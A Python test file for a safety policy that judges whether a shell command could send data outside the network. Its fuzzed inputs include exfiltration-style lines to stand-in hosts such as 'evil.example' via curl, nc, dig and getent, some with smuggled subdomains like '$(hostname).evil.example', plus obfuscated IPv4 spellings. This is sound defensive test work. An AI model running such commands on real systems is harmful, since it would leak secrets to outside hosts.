"""Whom a command asks outside of the network: what a model read could leave by it.

`reaches.yaml` holds read-only lines under `outside:`, with whom they ask, and under `inside:`.
"""

import ipaddress
import shlex
from importlib import resources
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from sme_tools.safety.policy import addresses
from sme_tools.safety.policy.judge import judge
from sme_tools.safety.policy.program import family, of
from sme_tools.safety.policy.verdict import Verdict
from wrapped_lines import BEFORE, QUOTING, WRAPPINGS, wrapped

LINES = yaml.safe_load((Path(__file__).parent / "reaches.yaml").read_text("utf-8"))
PROGRAMS = resources.files("sme_tools.safety.policy") / "programs"
CONFIGURED = {
    "helm", "helm3", "ip", "pihole", "pvesh", "rclone", "xe",
}  # fmt: skip
"""Their words are sent, but only to what the host's own configuration names."""


@pytest.mark.parametrize("line", LINES["outside"])
def test_whom_a_line_asks_outside_is_told(line):
    judgement = judge(line.replace("⏎", "\n"))
    assert judgement.verdict is Verdict.READ_ONLY, judgement.reason
    assert [*judgement.reaches] == LINES["outside"][line]


def test_what_stays_in_the_network_asks_nobody_outside():
    wrong = {line: judge(line).reaches for line in LINES["inside"] if judge(line).reaches}
    assert not wrong


def described(spec, name, reaches=None):
    """Each description in this one, with what it inherits of whom is asked."""
    reaches = spec.reaches or reaches
    yield name, spec, reaches
    for names, inner in spec.subcommands.items():
        yield from described(of(inner), f"{name} {names}", reaches)


def test_what_prints_what_another_machine_says_tells_whom_it_asks():
    untold = [
        name
        for file in PROGRAMS.iterdir()
        if file.name.endswith(".yaml")
        for program, top in family(file.read_text("utf-8"), file.name).named()
        for name, spec, reaches in described(top, program)
        if (spec.network or spec.literal) and reaches is None and not spec.subcommands
    ]
    assert not [name for name in untold if name.split()[0] not in CONFIGURED]


ASKING = (
    "dig {}", "getent hosts {}", "ping -c1 {}", "curl -s http://{}/x", "host {}", "nc -z {} 80",
    "openssl s_client -connect {}:443 </dev/null", "psql -h {} -l", "ssh {} uptime",
    "curl 'http://localhost/?url=http://{}'", "git ls-remote https://{}/x", "ls /net/{}/x",
)  # fmt: skip
labels = st.text(alphabet="abcxyz019-_", min_size=1, max_size=12).map(lambda t: f"a{t}z")
hosts = st.one_of(
    st.lists(labels, min_size=1, max_size=4).map(lambda many: ".".join([*many, "example"])),
    st.lists(labels, min_size=1, max_size=3).map(lambda many: ".".join([*many, "Evil.Example."])),
    st.lists(labels, min_size=1, max_size=2).map(
        lambda many: ".".join(["localhost", "10.0.0.5", *many, "nip.io"])
    ),
)


@settings(max_examples=400, deadline=None, derandomize=True)
@given(
    st.sampled_from(ASKING),
    hosts,
    st.sampled_from(["{}", *WRAPPINGS, *BEFORE, *QUOTING]),
    st.sampled_from(["{}", *WRAPPINGS, *QUOTING]),
)
def test_no_wrapping_hides_whom_a_line_asks(asking, host, inner, outer):
    line = wrapped(asking.format(host), inner)
    line = wrapped(line, outer if "<<E" not in line or outer in QUOTING else "{}")
    judgement = judge(line)
    assert judgement.verdict is not Verdict.READ_ONLY or judgement.reaches, line


@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    st.sampled_from(("dig {}", "getent hosts {}", "host {}", "mysql -h {} -e 'select 1'",
                     "nc -z {} 80", "resolvectl query {}", "dig @127.0.0.1 -q {}")),
    st.text(alphabet="ax0.[]:#?\\@(=~/!,%'\"& +-", max_size=12),
)  # fmt: skip
def test_no_odd_text_before_a_domain_hides_it_from_who_looks_it_up(asking, odd):
    line = asking.format(shlex.quote(f"{odd}.evil.example"))
    judgement = judge(line)
    assert judgement.verdict is not Verdict.READ_ONLY or judgement.reaches, line


def spellings(address):
    """An IPv4 address in all forms that resolvers take: inet_aton(3)."""
    number = int(address)
    a, b, c, d = number >> 24, number >> 16 & 255, number >> 8 & 255, number & 255
    yield from (str(address), str(number), hex(number), f"0{number:o}", f"{a}.{b}.{number & 65535}")
    yield from (f"{a}.{number & 0xFFFFFF}", f"0x{a:x}.{b}.0{c:o}.{d}", f"::ffff:{address}")


@settings(max_examples=300, deadline=None)
@given(st.ip_addresses(v=4))
def test_no_spelling_of_an_address_hides_where_it_is(address):
    inside = {addresses.is_inside(spelling) for spelling in spellings(address)}
    assert len(inside) == 1
    # 100.64.0.0/10 is a provider's, 198.18.0.0/15 a laboratory's: not of the network.
    assert not (inside == {True} and address.is_global)


@settings(max_examples=300, deadline=None)
@given(st.ip_addresses(v=6))
def test_of_the_newer_addresses_only_local_ones_are_inside(address):
    local = address.is_link_local or address in ipaddress.ip_network("fc00::/7")
    local |= address.is_loopback or address.is_unspecified
    mapped = address.ipv4_mapped is not None or address.is_multicast
    assert mapped or addresses.is_inside(str(address)) == local


@settings(max_examples=500, deadline=None)
@given(st.one_of(st.text(max_size=60), st.text(alphabet="a1.:/@[]%?#&=,\\ ~-+。", max_size=40)))
def test_any_text_can_be_looked_at(text):
    for read in (addresses.outside, addresses.mentioned, addresses.carried):
        assert all(host for host in read(text))
    assert isinstance(addresses.is_well_known(text), bool)


@pytest.mark.parametrize("name", sorted(addresses.names().well_known["packages"]))
def test_a_well_known_name_may_be_asked_by_itself_alone(name):
    for line in (f"ping -c1 {name}", f"curl -sI https://{name}/", f"dig +short {name}"):
        assert judge(line).reaches == (), line
    for line in (
        f"ping -c1 secret.{name}",
        f"curl -s https://{name}/secret",
        f"curl -s -A secret https://{name}/",
        f"dig +short secret.{name}",
        f"dig {name} TXT secret.evil.example",
        f"nc -z {name} 443 evil.example",
    ):
        assert judge(line).reaches, line


def test_what_is_only_known_when_it_runs_counts_as_outside():
    assert "…" in judge('getent -- hosts "$x"').reaches
    assert "….evil.example" in judge("getent hosts $(hostname).evil.example").reaches
    assert "….evil.example" in judge("cd /net && ls $x.evil.example").reaches
